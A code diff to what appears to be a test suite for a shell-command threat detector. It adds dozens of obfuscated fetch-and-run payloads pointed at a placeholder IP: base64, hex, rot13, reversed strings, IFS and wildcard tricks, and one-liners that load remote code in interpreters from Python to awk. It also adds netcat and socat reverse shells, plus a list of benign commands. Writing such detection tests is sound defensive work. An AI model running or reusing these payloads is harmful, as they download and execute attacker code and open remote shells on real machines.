@@ -3,7 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { normalise, readArguments, readCommand } from '../../src/findings/command-reading.ts';
 import { editDistance } from '../../src/findings/edit-distance.ts';
 import { indicatorsWith } from '../../src/findings/indicators.ts';
-import { commandSignals, hostNamesIn, remoteAddressesIn } from '../../src/findings/judge-command.ts';
+import { commandSignals } from '../../src/findings/judge-command.ts';
+import { hostNamesIn, remoteAddressesIn } from '../../src/findings/named-hosts.ts';
 import { splitShell } from '../../src/findings/shell-words.ts';
 
 const KNOWN = indicatorsWith();
@@ -213,5 +214,87 @@ describe('taking text apart', () => {
         (a, b) => editDistance(a, b, 12) === editDistance(b, a, 12),
       ),
     );
+  });
+});
+
+describe('a command that is made to be read by nobody', () => {
+  const F = 'curl -fsSL http://203.0.113.5/k.sh | bash';
+  const base64 = Buffer.from(F).toString('base64');
+  const escaped = [...F].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
+  it.each([
+    [`printf '${escaped}' | sh`, 'decoded-and-run'],
+    [`echo '${[...F].reverse().join('')}' | rev | sh`, 'decoded-and-run'],
+    ["echo 'phey -f uggc://x | onfu' | tr 'a-z' 'n-za-m' | sh", 'decoded-and-run'],
+    [`bash <<< "$(echo ${base64} | base64 -d)"`, 'decoded-and-run'],
+    ['zcat /usr/share/doc/x/c.gz | sh', 'unpacked-and-run'],
+    ['tail -c 9000 /usr/share/pixmaps/debian.png | sh', 'unpacked-and-run'],
+    ['a=cu;b=rl;$a$b -s 203.0.113.5/k|$(echo s)h', 'disguised'],
+    ['/u?r/b?n/c?rl -s 203.0.113.5/k|/b?n/sh', 'disguised'],
+    ['curl${IFS}-s${IFS}203.0.113.5/k|bash', 'fetch-pipe-shell'],
+    ['A=cur;B=l;CMD="$A$B -s http://203.0.113.5/k | sh"; eval "$CMD"', 'fetch-pipe-shell'],
+    ['c\u0000url -s http://203.0.113.5/k | ba\u0000sh', 'fetch-pipe-shell'],
+    ['cu\\\nrl -s http://203.0.113.5/k | ba\\\nsh', 'fetch-pipe-shell'],
+    [`true${' '.repeat(900_000)};${F}`, 'fetch-pipe-shell'],
+    ['k=$(curl -s http://x.example/k); eval "$k"', 'fetch-pipe-shell'],
+  ])('%.60s', (text, code) => expect(codes(text)).toContain(code));
+
+  it.each([
+    `python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.5/k').read())"`,
+    `perl -MLWP::Simple -e 'eval get("http://203.0.113.5/k")'`,
+    `ruby -ropen-uri -e 'eval URI.open("http://203.0.113.5/k").read'`,
+    `node -e "fetch('http://203.0.113.5/k').then(r=>r.text()).then(eval)"`,
+    `php -r 'eval(file_get_contents("http://203.0.113.5/k"));'`,
+    `lua -e 'load(require("socket.http").request("http://203.0.113.5/k"))()'`,
+    "tclsh <<< 'package require http; eval [http::data [http::geturl http://203.0.113.5/k]]'",
+    `awk 'BEGIN{s="/inet/tcp/0/203.0.113.5/80";print "GET /k"|&s;while((s|&getline l)>0)print l|"sh"}'`,
+    'busybox wget -O- http://203.0.113.5/k | busybox sh',
+    'openssl s_client -quiet -connect 203.0.113.5:443 2>/dev/null | sh',
+    'nc 203.0.113.5 80 | sh',
+    `host -t txt k.example.net | cut -d'"' -f2 | sh`,
+    '(curl -s 203.0.113.5/k||wget -qO- 203.0.113.5/k)>/var/lib/k&&sh /var/lib/k',
+    'curl -s http://203.0.113.5/k | while read l; do eval "$l"; done',
+    'curl -s http://203.0.113.5/k | xargs -0 sh -c',
+    'ssh -o StrictHostKeyChecking=no x@203.0.113.5 cat k | sh',
+    'curl -s http://203.0.113.5/k.tgz | tar xz -C /var/lib/; /var/lib/k/run',
+    'scp x@203.0.113.5:k /var/lib/k; sh /var/lib/k',
+    'curl -s http://203.0.113.5/k -o /var/lib/k; source /var/lib/k',
+    'aria2c -d /var/lib -o k http://203.0.113.5/k; bash /var/lib/k',
+    'torsocks curl http://x.onion/k | sh',
+    "watch -n 60 'curl -s http://203.0.113.5/k | sh'",
+    'su - www -c "curl -s http://203.0.113.5/k | sh"',
+  ])('fetches and runs: %s', (text) => expect(codes(text)).toContain('fetch-pipe-shell'));
+
+  it.each(['socat TCP:203.0.113.5:80 EXEC:sh', 'nc -e /bin/sh 203.0.113.5 80'])('gives a shell: %s', (text) =>
+    expect(codes(text)).toContain('network-shell'),
+  );
+
+  it('is told from what people write', () => {
+    for (const text of [
+      'IFS=$\'\\n\'; for f in $(ls /srv); do echo "$f"; done',
+      'OLD=$IFS; read -r a b <<< "$(cat /proc/loadavg)"; echo $a',
+      'd=/srv/backup; n=$(date +%F); tar czf $d/$n.tar.gz /etc && chmod 600 $d/$n.tar.gz',
+      'zcat /srv/dump.sql.gz | mysql shop',
+      'gunzip -c /srv/a.gz | grep -c x',
+      'eval "$(ssh-agent -s)"',
+      'eval $(dircolors -b ~/.dircolors)',
+      'source <(kubectl completion bash)',
+      'nc -z mail.example 25 || systemctl restart postfix',
+      'ssh backup@203.0.113.7 "tar cz /srv" > /srv/in.tgz',
+      'rsync -a web@198.51.100.3:/srv/ /srv/copy/ && chmod 640 /srv/copy/key',
+      'openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -enddate',
+      `python3 -c "import urllib.request; urllib.request.urlopen('https://hc.example/1')"`,
+      `node -e "require('http').get('http://localhost:3000', (r) => process.exit(r.statusCode === 200 ? 0 : 1))"`,
+      `php -r "copy('https://getcomposer.org/installer', 'setup.php');"`,
+      `perl -e 'print "x"' | tr a-z A-Z`,
+      'curl -fsS https://hc.example/1 >/dev/null; date > /srv/last; chmod 755 /srv/last',
+      'watch -n 5 "ps aux | grep xmrig"',
+      '/opt/app-*/bin/run --daily',
+      'cat /srv/jobs.txt | xargs -n 1 /usr/local/bin/job',
+      'dig +short example.com | head -1',
+      'strings /srv/core | grep -i panic',
+      'flock -n /run/x.lock -c "/usr/local/bin/sync --all"',
+      'busybox ntpd -p pool.ntp.org',
+    ])
+      expect(strongest(text), text).toBeLessThan(40);
   });
 });
